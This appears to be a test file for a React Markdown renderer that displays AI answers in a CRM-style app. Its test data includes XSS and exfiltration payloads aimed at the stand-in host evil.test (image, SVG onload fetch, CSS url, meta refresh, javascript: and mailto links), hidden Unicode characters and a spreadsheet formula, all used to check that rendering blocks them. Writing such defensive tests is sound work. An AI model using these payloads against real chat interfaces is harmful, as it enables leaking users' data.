import { screen, within } from "@testing-library/react";
import userEvent from "@testing-library/user-event";
import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it, vi } from "vitest";

import type { RecordRef } from "@/api/types";
import { renderApp } from "@/test/render";

import { splitBlocks } from "./blocks";
import { Markdown } from "./Markdown";

const DEAL: RecordRef = { type: "deal", id: "0199-d1", name: "Acme renewal" };

function show(text: string, refs: RecordRef[] = [DEAL]) {
  return renderApp(<Markdown text={text} refs={refs} />);
}

describe("an answer", () => {
  it("shows HTML as text and fetches nothing by being shown", () => {
    const fetched = vi.fn();
    vi.stubGlobal("fetch", fetched);
    const { container } = show(
      'Hi <script>alert(1)</script> <img src="https://evil.test/a.png"> ![secret](https://evil.test/b.png)\n\n' +
        '<iframe src="https://evil.test"></iframe>\n\n<link rel="prefetch" href="https://evil.test">',
    );
    expect(container.querySelectorAll("script, img, iframe, link, object, embed, style")).toHaveLength(0);
    expect(container.textContent).toContain("<script>alert(1)</script>");
    expect(container.textContent).toContain('<iframe src="https://evil.test"></iframe>');
    expect(container.textContent).toContain("secret");
    expect(container.innerHTML).not.toContain("b.png");
    expect(fetched).not.toHaveBeenCalled();
  });

  // SEC-9: what nobody sees is spelled out, in words, in links and in code.
  it("spells out what nobody sees", () => {
    const { container } = show("Pay \u202E4321 to **Ac\u200Bme** [a\u2066b](/deals/0199-d1) `c\u{E0041}d`");
    expect(container.textContent).toBe("Pay ⟨U+202E⟩4321 to Ac⟨U+200B⟩me a⟨U+2066⟩b c⟨U+E0041⟩d");
  });

  // SEC-7: an answer makes the browser fetch nothing from anywhere, however it is written.
  it.each([
    ["an image", "![q](https://evil.test/i?q=secret)"],
    ["an image by reference", "![q][r]\n\n[r]: https://evil.test/i?q=secret"],
    ["an image in a link", "[![q](https://evil.test/i)](https://evil.test/l)"],
    ["an image without a scheme", "![q](//evil.test/i)"],
    ["an image with backslashes", "![q](\\\\evil.test/i)"],
    ["an image with a hidden character", "![q](ht\u200Btps://evil.test/i)"],
    ["an image of data", "![q](data:text/html,<img src=https://evil.test/i>)"],
    ["an HTML image", '<img src="https://evil.test/i?q=secret">'],
    ["an HTML image with a set", '<img srcset="https://evil.test/i 2x">'],
    ["a drawing", '<svg onload="fetch(\'https://evil.test\')"><image href="https://evil.test/i"/></svg>'],
    ["a style", '<div style="background:url(https://evil.test/i)">x</div>'],
    ["a frame, a video and an object", '<iframe src="https://evil.test"></iframe><video poster="https://evil.test"></video><object data="https://evil.test"></object>'],
    ["an address", "<https://evil.test/?q=secret> https://evil.test/?q=secret"],
    ["a prefetch", '<link rel="prefetch" href="https://evil.test"><meta http-equiv="refresh" content="0;url=https://evil.test">'],
  ])("with %s fetches nothing", (_, text) => {
    const fetched = vi.fn();
    vi.stubGlobal("fetch", fetched);
    const { container } = show(text);
    for (const element of container.querySelectorAll("*")) {
      for (const { name, value } of element.attributes) {
        const leaves = element.tagName === "A" && name === "href";
        expect(leaves || !/evil\.test|^\/\/|url\(/i.test(value), `${element.tagName} ${name}=${value}`).toBe(true);
      }
    }
    expect(container.querySelectorAll("img, svg image, iframe, video, object, embed, link, meta, style, script")).toHaveLength(0);
    expect(fetched).not.toHaveBeenCalled();
  });

  it.each([
    ["**「重點」**很", "「重點」"],
    ["這是**「重點」**。", "「重點」"],
    ["請看**重點（甲）**後再說", "重點（甲）"],
  ])("makes %s bold although no space follows", (text, bold) => {
    const { container } = show(text);
    expect(container.querySelector("strong")?.textContent).toBe(bold);
    expect(container.textContent).not.toContain("*");
  });

  it("strikes through ~~this~~ and not a range of 10~20 or 30~40", () => {
    const { container } = show("~~old~~ 10~20，30~40");
    expect([...container.querySelectorAll("del")].map((del) => del.textContent)).toEqual(["old"]);
  });

  it("keeps headings below those of the panel", () => {
    show("# One\n\n## Two");
    expect(screen.getByRole("heading", { name: "One", level: 3 })).toBeTruthy();
    expect(screen.getByRole("heading", { name: "Two", level: 4 })).toBeTruthy();
  });
});

describe("a link", () => {
  it("leads to a record that a tool has returned", () => {
    show("See [the **Acme** deal](/deals/0199-d1).");
    expect(screen.getByRole("link", { name: "the Acme deal" }).getAttribute("href")).toBe("/deals/0199-d1");
  });

  it.each([
    ["an id that no tool returned", "/deals/0199-d2"],
    ["the same id of another kind", "/companies/0199-d1"],
    ["a page that is no record", "/admin/ai-config"],
    ["an action hidden behind a record", "/deals/0199-d1?confirm=1"],
    ["a relative address", "deals/0199-d1"],
    ["a script", "javascript:alert(1)"],
    ["data", "data:text/html,x"],
    ["mail", "mailto:boss@example.com?body=secret"],
    ["a place on the page", "#composer"],
    ["this site by its full address", "http://localhost:3000/deals/0199-d2"],
  ])("that names %s is plain text", (_, href) => {
    const { container } = show(`Go [there](${href}) now`);
    expect(container.querySelector("a")).toBeNull();
    expect(container.textContent).toBe("Go there now");
  });

  it("out of this site names its host, and asks before it opens", async () => {
    const opened = vi.spyOn(window, "open").mockReturnValue(null);
    show("[https://bank.example](https://evil.test/x?y=1) and https://plain.test/a");
    const link = screen.getByRole("link", { name: "https://bank.example (evil.test)" });
    expect(link.getAttribute("rel")).toBe("noopener noreferrer");
    expect(link.getAttribute("target")).toBe("_blank");
    expect(screen.getByRole("link", { name: "https://plain.test/a" })).toBeTruthy();
    await userEvent.click(link);
    const dialog = screen.getByRole("alertdialog", { name: "Leave for evil.test?" });
    expect(dialog.textContent).toContain("https://evil.test/x?y=1");
    expect(opened).not.toHaveBeenCalled();
    await userEvent.click(within(dialog).getByRole("button", { name: "Open the page" }));
    expect(opened).toHaveBeenCalledWith("https://evil.test/x?y=1", "_blank", "noopener,noreferrer");
  });

  it("that begins with two slashes never leaves this site unseen", () => {
    const { container } = show("[one](//evil.test/x) [two](/\\\\evil.test/x)");
    expect(container.querySelector("a")).toBeNull();
  });
});

describe("a table", () => {
  const text = "| Deal | Amount |\n| --- | ---: |\n| Acme, Ltd | HK$1,234.50 |\n| =HYPERLINK(1) | -5% |";

  it("scrolls in a box of its own that the keyboard reaches", () => {
    show(text);
    const box = screen.getByRole("group", { name: "Table" });
    expect(box.tabIndex).toBe(0);
    expect(box.className).toContain("overflow-x-auto");
    expect(within(box).getAllByRole("row")).toHaveLength(3);
  });

  it("can be copied, without formulas", async () => {
    const user = userEvent.setup();
    show(text);
    await user.click(screen.getByRole("button", { name: "Copy" }));
    expect(await navigator.clipboard.readText()).toBe("Deal\tAmount\nAcme, Ltd\tHK$1,234.50\n'=HYPERLINK(1)\t-5%");
  });

  it("can be saved as a file that a spreadsheet opens", async () => {
    const blobs: Blob[] = [];
    vi.spyOn(URL, "createObjectURL").mockImplementation((blob) => {
      blobs.push(blob as Blob);
      return "blob:x";
    });
    show(text);
    await userEvent.click(screen.getByRole("button", { name: "Download CSV" }));
    const bytes = new TextDecoder("utf-8", { ignoreBOM: true }).decode(await blobs[0]?.arrayBuffer());
    expect(bytes).toBe('\uFEFF"Deal","Amount"\r\n"Acme, Ltd","HK$1,234.50"\r\n"\'=HYPERLINK(1)","-5%"\r\n');
  });
});

const CORPUS = {
  english:
    "You have **3 open deals** worth *HK$1.2M*:\n\n1. [Acme renewal](/deals/0199-d1) – `Proposal`\n2. ***Beta*** – ~~lost~~\n\n> Quote __here__\n\nDone.",
  chinese: "**「重點」**很清楚：\n\n- **商機**：`永明`（*報價*）\n- 金額 10~20 萬\n\n### 下一步\n\n請致電**陳大文**。",
  table:
    "Open deals:\n\n| Deal | Stage | Amount |\n|:---|---|---:|\n| **Acme** | `Won` | HK$1 |\n| [Beta](https://beta.test/x) | *New* | HK$2 |\n\nThat is all.",
  bareTable: "Deal | Stage\n--- | ---\nAcme | Won\nBeta | **Lost**\n",
  code: "Run this:\n\n```sql\nselect * from deals where a = '**x**'\n```\n\nor `a | b` inline, 2 * 3 = 6.",
  links:
    "See https://plain.test/a_b, <https://angle.test>, [x](https://x.test/a_(b)) and ![pic](https://p.test/p.png).",
};

// What code shows is the person's to read as it is.
const proseOf = (html: string) => html.replace(/<code[^>]*>.*?<\/code>/gs, "").replace(/<[^>]+>/g, "");
const markup = (text: string, streaming: boolean) =>
  renderToStaticMarkup(<Markdown text={text} refs={[]} streaming={streaming} />);

describe("unfinished markdown", () => {
  it.each(Object.entries(CORPUS))("never shows a raw marker (%s)", (_, text) => {
    const raw = /\*\*|__|~~|`|\]\(|!\[|\[\w|\||:--|--/;
    const bad: string[] = [];
    for (let end = 1; end <= text.length; end++) {
      const prose = proseOf(markup(text.slice(0, end), true));
      if (raw.test(prose)) bad.push(`${JSON.stringify(text.slice(0, end))} shows ${JSON.stringify(prose)}`);
    }
    expect(bad).toEqual([]);
  });

  it("keeps a row that is being written inside its table", () => {
    const table = "| A | B |\n| --- | --- |\n| one | two |\n| three | fo";
    for (let end = table.indexOf("| one"); end <= table.length; end++) {
      const html = markup(table.slice(0, end), true);
      expect(proseOf(html.replace(/<table>.*<\/table>/s, "")), table.slice(0, end)).not.toMatch(/one|two|three|\|/);
    }
  });

  it.each(Object.entries(CORPUS))("looks like the whole when it is complete (%s)", (_, text) => {
    expect(markup(text, true)).toBe(markup(text, false));
  });
});

describe("blocks", () => {
  it.each(Object.entries(CORPUS))("mean the same apart as together (%s)", (_, text) => {
    const apart = splitBlocks(text);
    expect(apart.join("\n")).toBe(text);
    // A definition makes the whole one block.
    const whole = renderToStaticMarkup(<Markdown text={`[unused]: /x\n\n${text}`} refs={[]} />);
    expect(markup(text, false).replaceAll("\n", "")).toBe(whole.replaceAll("\n", ""));
  });

  it.each([
    ["paragraphs", "a\n\nb\n\nc", 3],
    ["a loose list", "1. a\n\n2. b\n\n   more\n\n3. c\n\nend", 2],
    ["a fence with blank lines", "```\na\n\nb\n```\n\nend", 2],
    ["a fence inside a longer one", "````\n```\n\nx\n\n```\n````\n\nend", 2],
    ["an open fence", "~~~\na\n\nb\n\n```\n\nc", 1],
    ["a definition anywhere", "a [x]\n\nb\n\n[x]: https://x.test", 1],
  ])("cut %s where nothing can depend on it", (_, text, count) => {
    expect(splitBlocks(text)).toHaveLength(count);
  });
});

describe("an unverified figure", () => {
  const marked = (text: string, ...figures: string[]) => {
    const marks = figures.map((figure) => {
      const start = Array.from(text.slice(0, text.indexOf(figure))).length;
      return { start, end: start + Array.from(figure).length, text: figure };
    });
    return renderApp(<Markdown text={text} refs={[]} marks={marks} />).container;
  };
  const words = (container: HTMLElement) => [...container.querySelectorAll("mark")].map((mark) => mark.textContent);

  it.each([
    ["in plain words", "It is HK$99, not HK$12.", ["HK$99"]],
    ["in bold words", "It is **HK$99** and 12%.", ["HK$99", "12%"]],
    ["in a table of a later block", "First 😀 海.\n\n| a | b |\n|---|---|\n| 5 | HK$99 |", ["HK$99"]],
    ["in a list", "- 12%\n- HK$99\n", ["HK$99"]],
    ["after escapes and entities", "A \\* B &amp; C: HK$99", ["HK$99"]],
    ["in code", "Use `HK$99` here", ["HK$99"]],
  ])("%s is marked with words, and nothing else is", (_, text, figures) => {
    expect(words(marked(text, ...figures))).toEqual(figures.map((figure) => `${figure}(unverified)`));
  });

  it("is the one that was meant where the same stands twice", () => {
    const marks = [{ start: 9, end: 10, text: "5" }];
    const { container } = renderApp(<Markdown text="5 deals, 5 won" refs={[]} marks={marks} />);
    expect(container.textContent).toBe("5 deals, 5(unverified) won");
  });

  it("is left alone where the text does not have it", () => {
    const marks = [{ start: 90, end: 92, text: "77" }];
    expect(words(renderApp(<Markdown text="5 deals" refs={[]} marks={marks} />).container)).toEqual([]);
  });
});
